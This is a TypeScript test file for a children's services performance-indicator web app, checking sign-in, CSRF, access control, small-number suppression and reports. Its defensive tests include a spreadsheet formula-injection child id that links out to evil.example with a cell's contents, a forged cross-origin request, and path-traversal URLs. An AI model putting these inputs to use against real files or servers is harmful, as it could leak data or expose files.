import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { readAudit } from './audit/audit-log.js';
import { addUser } from './auth/users.js';
import { createFakeServices } from './testing/fake-services.js';
import { DEFAULT_SETTINGS } from '../indicators/settings.js';
import { signIn, TEST_PASSWORD, TEST_SCRYPT, testApp } from './testing/harness.js';
import { CalendarRangeError } from '../calendar/working-day-calendar.js';

const Q = 'la=841&period=2021-22-Q3';

test('pages need a signed-in user; the API answers 401', async () => {
  const { app } = await testApp();
  const r = await app.request('/scorecard');
  assert.equal(r.status, 303);
  assert.equal(r.headers.get('location'), '/sign-in?next=%2Fscorecard');
  assert.equal((await app.request('/api/scorecard')).status, 401);
  assert.equal((await app.request('/api/openapi.json')).status, 200, 'the API description is public');
});

test('security headers on every response', async () => {
  const { app } = await testApp();
  const r = await app.request('/sign-in');
  const csp = r.headers.get('content-security-policy')!;
  assert.match(csp, /default-src 'self'/);
  assert.match(csp, /frame-ancestors 'none'/);
  assert.doesNotMatch(csp, /unsafe-inline/);
  // The page's only inline script is allowed by its hash, which the browser recomputes from the page.
  const html = await r.text();
  const inline = [...html.matchAll(/<script(?![^>]*\bsrc=)[^>]*>([^<]*)<\/script>/g)].map((m) => m[1]!);
  assert.equal(inline.length, 1);
  const hash = createHash('sha256').update(inline[0]!).digest('base64');
  assert.ok(csp.includes(`'sha256-${hash}'`), csp);
  assert.equal(r.headers.get('x-frame-options'), 'DENY');
  assert.equal(r.headers.get('x-content-type-options'), 'nosniff');
  assert.equal(r.headers.get('referrer-policy'), 'same-origin');
  const cookie = r.headers.get('set-cookie')!;
  assert.match(cookie, /HttpOnly/);
  assert.match(cookie, /SameSite=Strict/);
});

test('sign-in: wrong password is refused with a GOV.UK error and audited; the session id changes on success', async () => {
  const { app, db } = await testApp();
  const first = await app.request('/sign-in');
  const cookie = first.headers.get('set-cookie')!.split(';')[0];
  const csrf = /name="_csrf" value="([^"]+)"/.exec(await first.text())![1];
  const post = (password: string) =>
    app.request('/sign-in', {
      method: 'POST',
      headers: { cookie, 'content-type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ _csrf: csrf, username: 'analyst', password }),
    });
  const bad = await post('wrong password!');
  assert.equal(bad.status, 401);
  const html = await bad.text();
  assert.match(html, /govuk-error-summary/);
  assert.match(html, /<title>Error: Sign in/);
  const ok = await post(TEST_PASSWORD);
  assert.equal(ok.status, 303);
  assert.notEqual(ok.headers.get('set-cookie')!.split(';')[0], cookie, 'new session id after sign-in');
  const actions = (await readAudit(db)).entries.map((e) => e.action);
  assert.deepEqual(actions, ['sign-in', 'sign-in-failed']);
});

test('a failed sign-in keeps the account it was for, but never what was typed for no account (often a password)', async () => {
  const { app, db } = await testApp();
  const first = await app.request('/sign-in');
  const cookie = first.headers.get('set-cookie')!.split(';')[0];
  const csrf = /name="_csrf" value="([^"]+)"/.exec(await first.text())![1];
  const post = (username: string, password: string) =>
    app.request('/sign-in', {
      method: 'POST',
      headers: { cookie, 'content-type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ _csrf: csrf, username, password }),
    });
  assert.equal((await post('analyst', 'wrong password!')).status, 401);
  assert.equal((await post('Tr0ub4dor&3-not-a-name', 'x')).status, 401);
  const failed = (await readAudit(db, { action: 'sign-in-failed' })).entries;
  const details = failed.map((e) => e.detail);
  assert.deepEqual(details.reverse(), [
    { username: 'analyst', reason: 'wrong password' },
    { username: null, reason: 'unknown user' },
  ]);
  assert.ok(!JSON.stringify(failed).includes('Tr0ub4dor'), 'the typed text is nowhere in the entry');
});

test('sign-in is rate-limited per user', async () => {
  const { app } = await testApp();
  const first = await app.request('/sign-in');
  const cookie = first.headers.get('set-cookie')!.split(';')[0];
  const csrf = /name="_csrf" value="([^"]+)"/.exec(await first.text())![1];
  const post = (password: string) =>
    app.request('/sign-in', {
      method: 'POST',
      headers: { cookie, 'content-type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ _csrf: csrf, username: 'manager', password }),
    });
  for (let i = 0; i < 5; i++) assert.equal((await post('nope nope nope')).status, 401);
  const locked = await post(TEST_PASSWORD);
  assert.equal(locked.status, 429, 'even the right password waits');
  assert.ok(Number(locked.headers.get('retry-after')) > 0);
});

test('every form needs the CSRF token', async () => {
  const { app } = await testApp();
  const b = await signIn(app, 'admin');
  const noToken = await app.request('/targets/assessments-45wd?la=841', {
    method: 'POST',
    headers: { cookie: b.cookie, 'content-type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams({
      year: '2021-22',
      target: '80',
      scheme: 'target-tolerance',
      rationale: 'forged',
    }),
  });
  assert.equal(noToken.status, 403);
  const wrong = await app.request('/sign-out', {
    method: 'POST',
    headers: { cookie: b.cookie, 'content-type': 'application/x-www-form-urlencoded' },
    body: new URLSearchParams({ _csrf: 'x'.repeat(43) }),
  });
  assert.equal(wrong.status, 403);
  const crossSite = await app.request('/sign-out', {
    method: 'POST',
    headers: {
      cookie: b.cookie,
      origin: 'https://evil.example',
      host: 'localhost',
      'content-type': 'application/x-www-form-urlencoded',
    },
    body: new URLSearchParams({ _csrf: b.csrf }),
  });
  assert.equal(crossSite.status, 403);
});

test('scorecard: §3 columns, RAG by symbol and word, rows linking to indicator pages', async () => {
  const { app } = await testApp();
  const b = await signIn(app, 'analyst');
  const r = await b.get(`/scorecard?${Q}`);
  assert.equal(r.status, 200);
  const html = await r.text();
  for (const col of [
    'Good is',
    'Basis',
    'Target',
    'Previous quarter',
    'Same period last year',
    'Current',
    'RAG',
    'Direction of travel',
    'England 2021-22',
    'Trend',
  ]) {
    assert.ok(html.includes(col), col);
  }
  assert.match(html, /href="\/indicators\/assessments-45wd\?la=841&amp;period=2021-22-Q3"/);
  assert.match(
    html,
    /app-rag--(green|amber|red)[^>]*>\s*<span class="app-rag__symbol" aria-hidden="true">[●▲■]<\/span>\s*(Green|Amber|Red)/,
  );
  assert.match(html, /rated indicators are on target or within tolerance/);
  assert.match(html, /\d+\.\d% \(\d+\/\d+\)/, 'full view shows numerator and denominator');
  const area = await (await b.get(`/scorecard?${Q}&area=care-leavers`)).text();
  assert.ok(area.includes('Care Leavers in suitable accommodation'));
  assert.ok(!area.includes('Number of Children in Care'));
});

test('members see public values: no numerators, small numbers withheld, no child-level link', async () => {
  const { app } = await testApp();
  const b = await signIn(app, 'member');
  const html = await (await b.get(`/scorecard?${Q}&view=full`)).text();
  assert.doesNotMatch(html, /\d+\.\d% \(\d+\/\d+\)/);
  assert.match(html, /Small numbers/, 'icpc-15wd has 4 children in the fake');
  const page = await (await b.get(`/indicators/icpc-15wd?${Q}`)).text();
  assert.doesNotMatch(page, /View the children behind/);
  const api = (await (await b.get(`/api/scorecard?${Q}&view=full`)).json()) as {
    visibility: string;
    indicators: { id: string; suppressed: boolean; numerator: number | null; rag: string | null }[];
  };
  assert.equal(api.visibility, 'public');
  const icpc = api.indicators.find((i) => i.id === 'icpc-15wd')!;
  assert.equal(icpc.suppressed, true);
  assert.equal(icpc.numerator, null);
  assert.equal(icpc.rag, null);
});

test('members get the public version by the report rules: a count of 1–5 reads "fewer than 6", small-number percentages and breakdown cells are withheld', async () => {
  const { app } = await testApp(
    createFakeServices({
      figures: { 'cic-missing': { x: 3, n: null }, 'assessments-45wd': { x: 37, n: 40 } },
    }),
  );
  const member = await signIn(app, 'member');
  // Scorecard: the count 3 is "<6" (the key says fewer than 6) and 37/40 (3 not within) is Small numbers.
  const card = await (await member.get(`/scorecard?${Q}`)).text();
  const row = (id: string) => new RegExp(`href="/indicators/${id}\\?[^"]*"[\\s\\S]*?</tr>`).exec(card)![0];
  assert.match(row('cic-missing'), /&lt;6/);
  assert.doesNotMatch(row('cic-missing'), />3</);
  assert.match(row('assessments-45wd'), /Small numbers/);
  assert.doesNotMatch(row('assessments-45wd'), /92\.5%/);
  assert.match(card, /fewer than 6/i);
  // Indicator pages: the count reads "Fewer than 6"; the percentage is withheld with its numbers.
  const missing = await (await member.get(`/indicators/cic-missing?${Q}`)).text();
  assert.match(missing, /Fewer than 6/);
  assert.match(missing, /not published because it relates to a small number of children/);
  const asmt = await (await member.get(`/indicators/assessments-45wd?${Q}`)).text();
  assert.match(asmt, /Small numbers/);
  assert.doesNotMatch(asmt, /37 of 40|92\.5%/);
  // Breakdown (sex: 18/20 and 19/20 of the 40): both cells have 1–5 not within, so both are withheld.
  const bySex = /By sex[\s\S]*?<\/table>/.exec(asmt)![0];
  assert.doesNotMatch(bySex, /90\.0%|95\.0%|\b18\b|\b19\b/);
  assert.equal(bySex.match(/Small numbers/g)?.length, 2);
  // The API gives members the same public values.
  const api = (await (await member.get(`/api/scorecard?${Q}`)).json()) as {
    indicators: {
      id: string;
      value: number | null;
      numerator: number | null;
      suppressed: boolean;
      breakdowns: Record<string, { value: number | null; suppressed?: boolean }[]>;
    }[];
  };
  const m = api.indicators.find((i) => i.id === 'cic-missing')!;
  assert.deepEqual([m.value, m.numerator, m.suppressed], [null, null, true]);
  const a = api.indicators.find((i) => i.id === 'assessments-45wd')!;
  assert.deepEqual([a.value, a.numerator, a.suppressed], [null, null, true]);
  assert.deepEqual(
    a.breakdowns['sex']!.map((b) => [b.value, b.suppressed]),
    [
      [null, true],
      [null, true],
    ],
  );
  // An analyst choosing the full view sees them all.
  const analyst = await signIn(app, 'analyst');
  const full = await (await analyst.get(`/indicators/assessments-45wd?${Q}`)).text();
  assert.match(full, /92\.5%/);
  assert.match(/By sex[\s\S]*?<\/table>/.exec(full)![0], /90\.0%[\s\S]*95\.0%/);
});

test('members are refused child-level data: page 403 and API 403, nothing audited as viewed', async () => {
  const { app, db } = await testApp();
  const b = await signIn(app, 'member');
  const page = await b.get(`/indicators/assessments-45wd/children?${Q}`);
  assert.equal(page.status, 403);
  assert.match(await page.text(), /You do not have permission/);
  const api = await b.get(`/api/indicators/assessments-45wd/members?${Q}`);
  assert.equal(api.status, 403);
  assert.equal(((await api.json()) as { error: string }).error, 'forbidden');
  assert.equal((await b.get(`/indicators/assessments-45wd/children.csv?${Q}`)).status, 403);
  for (const p of ['/data', '/targets', '/audit', '/targets/assessments-45wd'])
    assert.equal((await b.get(p)).status, 403, p);
  assert.equal((await readAudit(db, { action: 'child-level-view' })).total, 0);
});

test('analysts get pseudonymised lists, managers identifiable ones; every view is audited', async () => {
  const { app, db } = await testApp();
  const analyst = await signIn(app, 'analyst');
  const a = await (await analyst.get(`/indicators/assessments-45wd/children?${Q}`)).text();
  assert.match(a, /P-[0-9A-F]{10}/);
  assert.doesNotMatch(a, />C\d{5}</);
  assert.doesNotMatch(a, /Date of birth/);
  assert.equal(
    (await analyst.get(`/indicators/assessments-45wd/children.csv?${Q}`)).status,
    403,
    'export needs its own permission',
  );
  const manager = await signIn(app, 'manager');
  const m = await (await manager.get(`/indicators/assessments-45wd/children?${Q}&show=numerator`)).text();
  assert.match(m, />C\d{5}</);
  assert.match(m, /Date of birth/);
  // Dates read as the reasons beside them write dates (dd/mm/yyyy), and sort by the date; the CSV keeps ISO.
  const cells = [...m.matchAll(/<td class="govuk-table__cell app-nowrap" data-sort="(\d*)">([^<]*)<\/td>/g)];
  assert.ok(cells.length > 0, 'date cells with sort keys');
  for (const [, sort, text] of cells)
    if (sort) assert.equal(text, `${sort.slice(6, 8)}/${sort.slice(4, 6)}/${sort.slice(0, 4)}`);
    else assert.equal(text, '–');
  assert.doesNotMatch(m, /app-nowrap[^>]*>\d{4}-\d{2}-\d{2}</);
  const api = (await (await manager.get(`/api/indicators/assessments-45wd/members?${Q}`)).json()) as {
    members: { child: string }[];
    identifiable: boolean;
  };
  assert.equal(api.identifiable, true);
  const csv = await manager.get(`/indicators/assessments-45wd/children.csv?${Q}`);
  assert.equal(csv.status, 200);
  assert.match(csv.headers.get('content-disposition')!, /attachment/);
  assert.match(await csv.text(), /,\d{4}-\d{2}-\d{2},/, 'the CSV keeps ISO dates');
  const views = (await readAudit(db, { action: 'child-level-view' })).entries;
  assert.equal(views.length, 2);
  const [managerView, analystView] = views;
  assert.equal(analystView.actor, 'analyst');
  assert.equal(analystView.detail['identifiable'], false);
  assert.equal(managerView.detail['list'], 'numerator');
  assert.equal(managerView.detail['indicator'], 'assessments-45wd');
  assert.equal(managerView.detail['period'], '2021-22-Q3');
  assert.equal(managerView.detail['datasetVersion'], '841-v1');
  assert.equal(typeof managerView.detail['rows'], 'number');
  // The JSON list is an export (web.audit.test.ts), audited beside the CSV's.
  const exports = (await readAudit(db, { action: 'child-level-export' })).entries;
  assert.deepEqual(
    exports.map((e) => e.detail['format']),
    ['csv', 'json'],
  );
  assert.equal(exports[1]!.detail['rows'], api.members.length);
});

test('a user limited to one LA is refused another', async () => {
  const { app } = await testApp();
  const b = await signIn(app, 'analyst');
  assert.equal((await b.get('/scorecard?la=999')).status, 403);
  assert.equal((await b.get('/api/scorecard?la=999')).status, 403);
});

test('indicator page: value, interval, trend chart with table alternative, definition', async () => {
  const { app } = await testApp();
  const b = await signIn(app, 'analyst');
  const html = await (await b.get(`/indicators/assessments-45wd?${Q}`)).text();
  assert.match(html, /95% interval/);
  assert.match(html, /<svg class="app-chart"[^>]*role="group"[^>]*aria-label="C&amp;F assessments/);
  assert.match(html, /<circle [^>]*role="img" aria-label="Q3 2021\/22: \d+\.\d% \(95% interval /);
  assert.match(html, /England 2021-22: 84\.5%<\/span>/, 'the key gives the England benchmark and its year');
  assert.match(html, /last 8 quarters/);
  assert.match(html, /Q3 2021\/22/);
  assert.match(html, /Definition version/);
  assert.match(html, /By sex/);
  assert.equal((await b.get('/indicators/no-such-thing')).status, 404);
  assert.equal((await b.get('/api/indicators/no-such-thing')).status, 404);
});

test('changing a target changes the rating and is audited', async () => {
  const { app, db } = await testApp();
  const admin = await signIn(app, 'admin');
  const before = (await (await admin.get(`/api/indicators/cp-visits-10wd?${Q}`)).json()) as {
    indicator: { rag: string; value: number };
  };
  const easy = Math.floor(before.indicator.value) - 20;
  const r = await admin.post('/targets/cp-visits-10wd?la=841', {
    year: '2021-22',
    scheme: 'target-tolerance',
    target: String(easy),
    tolerance: '',
    toleranceUnit: 'points',
    kind: 'local',
    rationale: 'Reset from the England average',
  });
  assert.equal(r.status, 303);
  const after = (await (await admin.get(`/api/indicators/cp-visits-10wd?${Q}`)).json()) as {
    indicator: { rag: string; target: number };
  };
  assert.equal(after.indicator.target, easy);
  assert.equal(after.indicator.rag, 'green');
  const hard = await admin.post('/targets/cp-visits-10wd?la=841', {
    year: '2021-22',
    scheme: 'target-tolerance',
    target: '100',
    tolerance: '0',
    toleranceUnit: 'points',
    kind: 'local',
    rationale: 'Every visit on time',
  });
  assert.equal(hard.status, 303);
  const red = (await (await admin.get(`/api/indicators/cp-visits-10wd?${Q}`)).json()) as {
    indicator: { rag: string };
  };
  assert.equal(red.indicator.rag, before.indicator.value === 100 ? 'green' : 'red');
  const changes = (await readAudit(db, { action: 'target-change' })).entries;
  assert.equal(changes.length, 2);
  assert.equal(changes[0].detail['oldTarget'], easy);
  assert.equal(changes[0].detail['newTarget'], 100);
  const invalid = await admin.post('/targets/cp-visits-10wd?la=841', {
    year: '2021-22',
    scheme: 'target-tolerance',
    target: 'lots',
    rationale: '',
  });
  assert.equal(invalid.status, 400);
  const html = await invalid.text();
  assert.match(html, /Target must be a number/);
  assert.match(html, /Enter why this target was chosen/);
  const analyst = await signIn(app, 'analyst');
  assert.equal(
    (
      await analyst.post('/targets/cp-visits-10wd?la=841', {
        year: '2021-22',
        target: '1',
        rationale: 'nope nope',
      })
    ).status,
    403,
  );
});

test('upload: a bad file is refused with the validation report; a good one makes a version; both audited', async () => {
  const { app, db } = await testApp();
  const b = await signIn(app, 'manager');
  const form = new FormData();
  form.set('_csrf', b.csrf);
  form.append('files', new File(['not a csv at all'], 'episodes.txt'));
  const bad = await app.request('/data/upload?la=841', {
    method: 'POST',
    headers: { cookie: b.cookie },
    body: form,
  });
  assert.equal(bad.status, 422);
  const html = await bad.text();
  assert.match(html, /The files were not imported/);
  assert.match(html, /S-FORMAT/);
  assert.match(html, /govuk-error-summary/);
  const good = new FormData();
  good.set('_csrf', b.csrf);
  good.append('files', new File(['CHILD,DECOM\n1,2021-01-01\n'], 'episodes.csv'));
  const ok = await app.request('/data/upload?la=841', {
    method: 'POST',
    headers: { cookie: b.cookie },
    body: good,
  });
  assert.equal(ok.status, 200);
  assert.match(await ok.text(), /New dataset version 841-v2/);
  const uploads = (await readAudit(db, { action: 'data-upload' })).entries;
  assert.deepEqual(
    uploads.map((u) => u.detail['refused']),
    [false, true],
  );
  const noFile = new FormData();
  noFile.set('_csrf', b.csrf);
  const none = await app.request('/data/upload?la=841', {
    method: 'POST',
    headers: { cookie: b.cookie },
    body: noFile,
  });
  assert.equal(none.status, 400);
});

test('reports: analysts preview drafts, admins publish, members download only the public version', async () => {
  const { app, db } = await testApp();
  const analyst = await signIn(app, 'analyst');
  const draft = await analyst.get('/reports/draft?la=841&period=2021-22-Q3&format=html&version=public');
  assert.equal(draft.status, 200);
  assert.match(await draft.text(), /Performance Indicators Quarter 3 2021\/22/);
  assert.equal((await analyst.post('/reports/publish?la=841', { period: '2021-22-Q3' })).status, 403);
  const admin = await signIn(app, 'admin');
  const r = await admin.post('/reports/publish?la=841', { period: '2021-22-Q3' });
  assert.equal(r.status, 303);
  const id = new URL(r.headers.get('location')!, 'http://x').searchParams.get('published')!;
  assert.deepEqual(
    (await db.all<{ id: string }>('SELECT id FROM editions')).map((e) => e.id),
    [id],
  );
  const member = await signIn(app, 'member');
  assert.equal((await member.get('/reports/draft?la=841&period=2021-22-Q3')).status, 403);
  assert.equal((await member.get(`/reports/${id}/download?la=841&format=html&version=public`)).status, 200);
  assert.equal((await member.get(`/reports/${id}/download?la=841&format=html&version=full`)).status, 403);
  const list = await (await member.get('/reports?la=841')).text();
  assert.ok(list.includes(`Edition ${id}`));
  assert.match(list, /Public Word \(DOCX\)/);
  assert.deepEqual(
    (await readAudit(db)).entries.filter((e) => e.action.startsWith('report-')).map((e) => e.action),
    ['report-publish'],
  );
});

test('audit page for admins lists entries newest first', async () => {
  const { app } = await testApp();
  const admin = await signIn(app, 'admin');
  const html = await (await admin.get('/audit?action=sign-in')).text();
  assert.match(html, /Audit log/);
  assert.match(html, /Signed in/);
});

test('a disabled account cannot sign in', async () => {
  const { app, db } = await testApp();
  await addUser(
    db,
    { username: 'gone', role: 'analyst', la: '841', password: TEST_PASSWORD },
    new Date(),
    TEST_SCRYPT,
  );
  await db.run('UPDATE web_users SET disabled = 1 WHERE username = ?', ['gone']);
  await assert.rejects(signIn(app, 'gone'), /401/);
});

test('OpenAPI document describes the three endpoints', async () => {
  const { app } = await testApp();
  const doc = (await (await app.request('/api/openapi.json')).json()) as {
    openapi: string;
    paths: Record<string, unknown>;
  };
  assert.match(doc.openapi, /^3\./);
  assert.deepEqual(Object.keys(doc.paths).sort(), [
    '/indicators/{id}',
    '/indicators/{id}/members',
    '/scorecard',
  ]);
});

test('static assets come from govuk-frontend and the app, and paths cannot escape', async () => {
  const { app } = await testApp();
  const css = await app.request('/govuk/govuk-frontend.min.css');
  assert.equal(css.status, 200);
  assert.match(css.headers.get('content-type')!, /text\/css/);
  assert.equal((await app.request('/assets/fonts/bold-b542beb274-v2.woff2')).status, 200);
  assert.equal((await app.request('/app/app.js')).status, 200);
  assert.equal((await app.request('/app/..%2F..%2Fapp.ts')).status, 404);
  assert.equal((await app.request('/govuk/../../package.json')).status, 404);
});

test("the public view suppresses small numbers by the LA's settings (suppression.k), as the report's drafts do", async () => {
  // k = 10: a count of 8 is "fewer than 11"; 92/100 (8 not within) is Small numbers; the sex breakdown of
  // 16/40 (8/20 each) is withheld. Under the default k = 5 all of these would be shown.
  const figures = {
    'cic-missing': { x: 8, n: null },
    'assessments-45wd': { x: 92, n: 100 },
    'referrals-rereferral-12m': { x: 16, n: 40 },
  };
  const { app } = await testApp(
    createFakeServices({ figures, settings: { ...DEFAULT_SETTINGS, variants: { 'suppression.k': 10 } } }),
  );
  const member = await signIn(app, 'member');
  const card = await (await member.get(`/scorecard?${Q}`)).text();
  const row = (id: string) => new RegExp(`href="/indicators/${id}\\?[^"]*"[\\s\\S]*?</tr>`).exec(card)![0];
  assert.match(row('cic-missing'), /&lt;11/);
  assert.doesNotMatch(row('cic-missing'), />8</);
  assert.match(row('assessments-45wd'), /Small numbers/);
  assert.doesNotMatch(row('assessments-45wd'), /92\.0%/);
  assert.match(row('referrals-rereferral-12m'), /40\.0%/);
  assert.match(card, /fewer than 11/i);
  const missing = await (await member.get(`/indicators/cic-missing?${Q}`)).text();
  assert.match(missing, /Fewer than 11/);
  const asmt = await (await member.get(`/indicators/assessments-45wd?${Q}`)).text();
  assert.doesNotMatch(asmt, /92 of 100|92\.0%/);
  const rr = await (await member.get(`/indicators/referrals-rereferral-12m?${Q}`)).text();
  const bySex = /By sex[\s\S]*?<\/table>/.exec(rr)![0];
  assert.equal(bySex.match(/Small numbers/g)?.length, 2);
  assert.doesNotMatch(bySex, /\b8\b/);
  const api = (await (await member.get(`/api/scorecard?${Q}`)).json()) as {
    indicators: {
      id: string;
      value: number | null;
      suppressed: boolean;
      breakdowns: Record<string, { value: number | null; suppressed?: boolean }[]>;
    }[];
  };
  const at = (id: string) => api.indicators.find((i) => i.id === id)!;
  assert.deepEqual([at('cic-missing').value, at('cic-missing').suppressed], [null, true]);
  assert.deepEqual([at('assessments-45wd').value, at('assessments-45wd').suppressed], [null, true]);
  assert.deepEqual(
    [at('referrals-rereferral-12m').value, at('referrals-rereferral-12m').suppressed],
    [40, false],
  );
  assert.deepEqual(
    at('referrals-rereferral-12m').breakdowns['sex']!.map((b) => b.suppressed),
    [true, true],
  );
  const one = (await (await member.get(`/api/indicators/cic-missing?${Q}`)).json()) as {
    indicator: { value: number | null; suppressed: boolean };
  };
  assert.deepEqual([one.indicator.value, one.indicator.suppressed], [null, true]);
  // The same figures under the default settings are shown: the threshold really comes from the settings.
  const plain = await testApp(createFakeServices({ figures }));
  const card5 = await (await (await signIn(plain.app, 'member')).get(`/scorecard?${Q}`)).text();
  assert.match(new RegExp(`href="/indicators/cic-missing\\?[^"]*"[\\s\\S]*?</tr>`).exec(card5)![0], />8</);
  assert.match(card5, /92\.0%/);
});

// A child id comes from the input files: the CSV download writes it formula-safe (src/csv/spreadsheet-csv.ts),
// a leading quote before = + - @, so a spreadsheet shows it and never runs it; other rows are unchanged.
test('the child-list CSV download neutralises a child id a spreadsheet would run as a formula', async () => {
  const fake = createFakeServices();
  const hostile = '=HYPERLINK("https://evil.example/?"&B2,"Open")';
  const services = {
    ...fake,
    async members(la: string, period: string, id: string) {
      const list = await fake.members(la, period, id);
      if (!list) return null;
      const [first, ...rest] = list.members;
      const children = new Map(list.children);
      children.set(hostile, list.children.get(first!.childId)!);
      return {
        ...list,
        members: [{ ...first!, childId: hostile, reason: '-1 day late' }, ...rest],
        children,
      };
    },
  };
  const { app } = await testApp(services);
  const manager = await signIn(app, 'manager');
  const r = await manager.get(`/indicators/assessments-45wd/children.csv?${Q}`);
  assert.equal(r.status, 200);
  const rows = parse(await r.text()) as string[][];
  assert.equal(rows[0]![0], 'child');
  assert.equal(rows[1]![0], `'${hostile}`);
  assert.equal(rows[1]!.at(-1), "'-1 day late");
  assert.match(rows[2]![0]!, /^C\d{5}$/, 'an ordinary child id is unchanged');
  assert.match(rows[2]![1]!, /^\d{4}-\d{2}-\d{2}$/, 'a date of birth is unchanged');
});

test("figures that touch a loaded typo year show the error's advice (the table and field, no child), page and API", async (t) => {
  const loaded = new CalendarRangeError(1922, 1990, 2027, {
    la: '841',
    table: 'contacts.csv',
    field: 'received_at',
  });
  const { app } = await testApp({
    ...createFakeServices(),
    scorecard: async () => {
      throw loaded;
    },
  });
  t.mock.method(console, 'error', () => {});
  const manager = await signIn(app, 'manager');
  const page = await manager.get(`/scorecard?${Q}`);
  assert.equal(page.status, 500);
  const html = await page.text();
  assert.match(html, /These figures cannot be computed/);
  assert.match(html, /a record loaded for LA 841 has an event date in 1922 \(contacts\.csv, received_at\)/);
  assert.match(html, /rule GEN-PAST names the row, correct its year and import the file again/);
  const api = await manager.get(`/api/scorecard?${Q}`);
  assert.equal(api.status, 500);
  assert.deepEqual(await api.json(), { error: 'calendar-range', message: loaded.message });
});

test("an indicator page's chart draws England only in the indicator's own unit, and its key names only what is drawn", async () => {
  const { app } = await testApp();
  const manager = await signIn(app, 'manager');
  const chartOf = async (id: string) => {
    const html = await (await manager.get(`/indicators/${id}?${Q}`)).text();
    return {
      svg: /<svg class="app-chart"[\s\S]*?<\/svg>/.exec(html)![0],
      key: /<figcaption class="app-chart-legend">[\s\S]*?<\/figcaption>/
        .exec(html)![0]
        .replace(/<[^>]+>/g, ' '),
    };
  };
  // Children in care: England's 82,170 is the whole country's count; drawn, it flattened the LA's line.
  const count = await chartOf('cic-count');
  assert.doesNotMatch(count.svg, /app-chart__england/);
  assert.doesNotMatch(count.key, /England|Target|Tolerance/, 'no target, no England line: none in the key');
  assert.doesNotMatch(count.svg, /82170|98547/);
  // Children missing from care: England's 11% is a percentage of children looked after, not 11 children.
  const missing = await chartOf('cic-missing');
  assert.doesNotMatch(missing.svg, /app-chart__england/);
  assert.doesNotMatch(missing.key, /England/);
  // A percentage keeps its England line, target and tolerance.
  const assessments = await chartOf('assessments-45wd');
  assert.match(assessments.svg, /app-chart__england/);
  assert.match(assessments.key, /Target \(by financial year\)[\s\S]*Tolerance[\s\S]*England 2021-22: 84\.5%/);
});
